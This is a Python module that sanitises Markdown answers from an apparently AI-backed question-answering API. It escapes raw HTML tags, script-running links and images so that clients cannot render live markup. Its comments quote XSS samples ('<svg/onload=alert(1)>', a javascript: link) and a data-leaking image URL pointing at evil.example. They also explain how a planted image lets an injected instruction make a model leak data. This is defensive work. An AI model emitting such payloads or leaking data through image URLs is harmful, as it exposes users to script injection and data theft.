"""Escape raw HTML in Markdown answer text, so the Markdown an API client receives carries no live markup.

The ``answer`` field of ``ask --json`` and of the HTTP API is Markdown; a client may render it with any Markdown
library, many of which pass raw HTML through. An extractive answer quotes documents, and a model may copy their
markup, so ``<script>`` or ``<img onerror=...>`` from a source must arrive as text: ``&lt;script&gt;``.

What counts as raw HTML is CommonMark's definition (open and closing tags, comments, processing instructions,
declarations, CDATA), taken from markdown-it-py's own regular expression (``markdown_it.common.html_re.HTML_TAG_RE``),
so what a CommonMark renderer with HTML enabled would pass through is escaped, and also what lenient renderers and
browsers take for a tag although CommonMark does not ("<svg/onload=alert(1)>"). Code is left alone: fenced and
indented code blocks (found by markdown-it-py's block parser) and inline code spans, where "<b>" is already shown as
text. Autolinks ("<https://example.org>") are not HTML and stay. Rendering the escaped text gives the same visible
text as rendering the original with HTML disabled. Two Markdown constructs are made text too: a link whose destination
runs script ("javascript:", "vbscript:", "data:") and an image (a client would fetch its address unasked).
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt
from markdown_it.common.html_re import HTML_TAG_RE

__all__ = ["escape_raw_html"]

_parser = MarkdownIt("commonmark", {"html": True})
#: What browsers and lenient Markdown renderers take for a tag although CommonMark does not ("<svg/onload=...>",
#: "<img/src=x onerror=...>"): "<", a letter, "/", "!" or "?", then anything but angle brackets up to ">" on the line.
_LOOSE_TAG = re.compile(r"<[A-Za-z!/?][^<>\n]*>")
#: CommonMark autolinks ("<https://example.org>", "<ops@example.org>"): links, not HTML; left as they are.
_AUTOLINK = re.compile(r"<[A-Za-z][A-Za-z0-9.+-]{1,31}:[^<>\x00-\x20]*>|<[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]+@[A-Za-z0-9]"
                       r"(?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?)*>")
#: An inline code span: a run of backticks up to the next run of the same length (CommonMark 6.1).
_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", re.S)


def _code_lines(text: str) -> set[int]:
    """0-based line numbers inside fenced or indented code blocks."""
    lines: set[int] = set()
    for token in _parser.parse(text):
        if token.type in ("fence", "code_block") and token.map:
            lines.update(range(token.map[0], token.map[1]))
    return lines


def escape_raw_html(text: str) -> str:
    """``text`` with every raw HTML construct outside code written as entities ("<" -> "&lt;", ">" -> "&gt;").

    Args:
        text: Markdown (an answer with its [S#] markers), any length.
    Returns:
        The same text when it holds no raw HTML; otherwise each tag, comment or declaration escaped in place.
    """
    if "<" not in text and "](" not in text and "![" not in text:
        return text
    code = _code_lines(text)
    out: list[str] = []
    lines = text.split("\n")
    # prose lines are handled in runs, so that a code span crossing a line break is seen whole
    run: list[str] = []

    def flush() -> None:
        if run:
            out.append(_escape_prose("\n".join(run)))
            run.clear()

    for number, line in enumerate(lines):
        if number in code:
            flush()
            out.append(line)
        else:
            run.append(line)
    flush()
    return "\n".join(out)


#: A Markdown link whose destination runs script ("[help](javascript:alert(1))"): its "(" is escaped, so every
#: renderer shows the text instead of making a link.
_SCRIPT_LINK = re.compile(r"\]\((?=\s*<?\s*(?:javascript|vbscript|data)\s*:)", re.I)


#: A Markdown image ("![pixel](https://evil.example/leak?d=secret)", or reference-style "![x][ref]"): a client
#: rendering the answer would fetch it unasked, which carries whatever its address holds to that server (a planted
#: image is the classic way an injected instruction leaks data: the s44 breaker). Its "[" is escaped: every renderer
#: shows the text.
_IMAGE = re.compile(r"!\[")


def _escape_prose(text: str) -> str:
    if "](" in text:
        text = _SCRIPT_LINK.sub(r"]\\(", text)
    spans = [(m.start(), m.end()) for m in _CODE_SPAN.finditer(text)]
    if "![" in text:  # outside code spans, where "![" is shown as written
        text = _IMAGE.sub(lambda m: m.group(0) if any(a <= m.start() < b for a, b in spans) else "!\\[", text)
        spans = [(m.start(), m.end()) for m in _CODE_SPAN.finditer(text)]
    out, pos, k = [], 0, 0
    i = text.find("<")
    while i >= 0:
        while k < len(spans) and spans[k][1] <= i:
            k += 1
        if k < len(spans) and spans[k][0] <= i:  # inside a code span: skip to its end
            i = text.find("<", spans[k][1])
            continue
        m = HTML_TAG_RE.match(text, i) or _LOOSE_TAG.match(text, i)
        if m and not _AUTOLINK.match(text, i):
            out += [text[pos:i], m.group(0).replace("<", "&lt;").replace(">", "&gt;")]
            pos = m.end()
            i = text.find("<", pos)
        else:
            i = text.find("<", i + 1)
    out.append(text[pos:])
    return "".join(out)
